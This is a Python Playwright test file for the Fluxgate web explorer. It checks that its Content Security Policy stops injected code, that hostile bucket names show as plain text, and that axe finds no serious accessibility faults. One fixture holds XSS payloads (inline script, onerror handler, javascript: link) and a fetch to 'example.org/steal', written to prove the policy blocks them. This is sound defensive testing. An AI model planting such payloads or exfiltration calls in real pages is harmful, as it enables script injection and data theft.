"""Hostile names are texts, the policy stops what would run or leave, and people with any sight can use the page."""

import re
from urllib.parse import quote

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Page, expect

from tests.browser.conftest import BEGIN_S, HOSTILE, Visits
from tests.support.browsers import DESKTOP, PHONE
from tests.support.gateways import Gateway
from tests.support.waiting import until

pytestmark = [pytest.mark.live, pytest.mark.timeout(180)]
VIEW = "#/explore?bucket=Power&measurement=site&field=power_kw&start=2026-01-01T06:00:00Z&stop=2026-01-01T12:00:00Z"
INJECTED = """() => {
    window.stopped = [];
    document.addEventListener("securitypolicyviolation", (event) => window.stopped.push(event.effectiveDirective));
    const script = document.createElement("script");
    script.textContent = "window.hit = 1";
    document.body.append(script);
    const box = document.createElement("div");
    box.innerHTML = '<img src="none" onerror="window.hit = 2"><a href="javascript:window.hit=3" id="trap">x</a>';
    document.body.append(box);
    box.querySelector("a").click();
    const far = document.createElement("script");
    far.src = "https://example.org/evil.js";
    document.body.append(far);
    new Image().src = "https://example.org/pixel.png";
    const frame = document.createElement("iframe");
    frame.src = "https://example.org/";
    document.body.append(frame);
    return fetch("https://example.org/steal").then(() => "sent", () => "refused");
}"""
STOPPED = {"script-src-elem", "script-src-attr", "img-src", "connect-src", "frame-src"}
SERIOUS = {"serious", "critical"}


def test_the_policy_stops_injected_scripts_and_everything_that_would_leave(visits: Visits) -> None:
    with visits() as visit:
        visit.open_signed_in("#/key")
        assert visit.page.evaluate(INJECTED) == "refused"
        expect(visit.page.get_by_role("navigation")).to_be_visible()
        until(lambda: set(visit.page.evaluate("window.stopped")) >= STOPPED)
        assert visit.page.evaluate("window.hit") is None
        sent = [request for request in visit.asked if "example.org" in request.url]
        assert {request.failure for request in sent} == {"csp"}, "stopped before they left"


def test_hostile_names_are_shown_as_texts(visits: Visits, gateway: Gateway) -> None:
    fields = [*HOSTILE, "quo\"te's {a=b|c}.d"]
    with gateway.http() as http:
        for bucket in HOSTILE:
            names = [re.sub(r"([ ,=])", r"\\\1", name) for name in fields]
            lines = [f"{name},tag\\ {name}={name} {name}={n} {BEGIN_S + n}" for n, name in enumerate(names)]
            route = f"/buckets/{quote(bucket, safe='')}/points?precision=s"
            http.post(route, content="\n".join(lines).encode()).raise_for_status()
    with visits(size=PHONE) as visit:
        page = visit.page
        visit.open_signed_in("#/explore?start=2026-01-01T00:00:00Z&stop=2026-01-01T00:01:00Z")
        for bucket in HOSTILE:
            page.get_by_role("button", name="Bucket").click()
            page.get_by_role("searchbox", name="Filter Bucket").fill(bucket)
            page.locator(".options button", has_text=bucket).click()
            expect(page).to_have_title(f"{bucket} – Explore – Fluxgate")
            page.get_by_role("button", name="Measurement").click()
            page.get_by_role("button", name="Clear").click()
            page.keyboard.press("Escape")
            page.get_by_role("button", name="Field").click()
            page.get_by_role("button", name="Clear").click()
            page.keyboard.press("Escape")
            visit.settled()
            assert_shown(page, [*HOSTILE, "quo\"te's "])
    assert visit.errors == []


def assert_shown(page: Page, names: list[str]) -> None:
    """The points are shown with these names as texts, and nothing sticks out of a phone."""
    for name in names:
        expect(page.locator("table thead bdi", has_text=name).first).to_be_attached()
    assert page.evaluate("window.hit") is None
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert page.locator("main script, main img[onerror], table img").count() == 0


@pytest.mark.parametrize(("size", "scheme"), [(DESKTOP, "light"), (DESKTOP, "dark"), (PHONE, "dark")])
def test_axe_finds_nothing_serious(visits: Visits, size: tuple[int, int], scheme: str) -> None:
    with visits(size=size, scheme=scheme) as visit:
        visit.open(VIEW)
        expect(visit.page.get_by_label("API key")).to_be_visible()
        assert serious(visit.page) == []
        visit.sign_in()
        visit.settled()
        assert serious(visit.page) == []
        assert visit.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        if size == PHONE:
            visit.page.get_by_text("What to look at").click()
        visit.page.get_by_role("button", name="Field").click()
        expect(visit.page.get_by_role("checkbox", name="power_kw")).to_be_visible()
        assert serious(visit.page) == []


def serious(page: Page) -> list[str]:
    """What axe holds to be serious or critical, with the elements that it means."""
    violations = Axe().run(page).response["violations"]
    return [
        f"{violation['id']}: {node['html'][:200]} {node['failureSummary'][:300]}"
        for violation in violations
        if violation["impact"] in SERIOUS
        for node in violation["nodes"]
    ]
